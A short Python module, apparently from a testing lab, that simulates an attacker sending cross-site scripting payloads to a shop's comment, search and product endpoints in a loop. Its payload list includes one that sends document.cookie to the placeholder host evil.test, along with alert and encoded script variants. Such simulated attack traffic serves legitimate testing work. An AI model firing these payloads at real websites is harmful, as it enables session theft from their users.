"""Somebody puts scripts into every field of the shop."""

from __future__ import annotations

import httpx

from lab.users.job import Job

SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=fetch('//evil.test/'+document.cookie)>",
    "\"><body onload=prompt('xss')>",
    "';alert(String.fromCharCode(88,83,83))//",
    "<iframe src=javascript:alert(1)></iframe>",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
)


def run(job: Job) -> None:
    """Try until the time is up."""
    wanted = job.parameters
    kept = {} if wanted["keep_alive"] else {"Connection": "close"}
    with httpx.Client(base_url=f"http://{job.host}", timeout=5, headers=kept) as client:
        while job.left > 0:
            script = job.rng.choice(SCRIPTS) * job.rng.randint(1, 3)
            try:
                if job.rng.random() < 0.4:
                    client.post("/app/comments", content=script)
                else:
                    client.get(
                        f"/app/{job.rng.choice(('search', 'product'))}", params={"q": script, "id": script}
                    )
            except httpx.HTTPError:
                pass
            if not job.think(wanted["pause"]):
                return
